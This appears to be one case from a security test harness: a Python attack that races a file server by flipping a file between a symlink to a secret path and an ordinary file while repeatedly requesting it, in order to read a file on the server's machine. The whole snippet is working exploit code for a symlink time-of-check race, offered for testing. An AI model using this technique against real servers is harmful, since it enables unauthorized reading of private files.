# aim: read a file of the server's machine
# mechanism: a file that becomes a link and a file again while the server reads it
# server: files
# plain: naive

swapping = f"""
import os, threading, time
def swap():
    end = time.monotonic() + 10
    while time.monotonic() < end and not os.path.exists('stop'):
        for make in (lambda: os.symlink({secret_path!r}, 'next'), lambda: open('next', 'w').close()):
            make()
            os.replace('next', 'racing')
            time.sleep(0.0005)
open('racing', 'w').close()
threading.Thread(target=swap, daemon=True).start()
"""


def attack():
    run(swapping)
    for _ in range(60):
        ask("GET", f"{here}/files/content?path=racing")
    ask("PUT", f"{here}/files/content?path=stop", b"")


judge(attack)
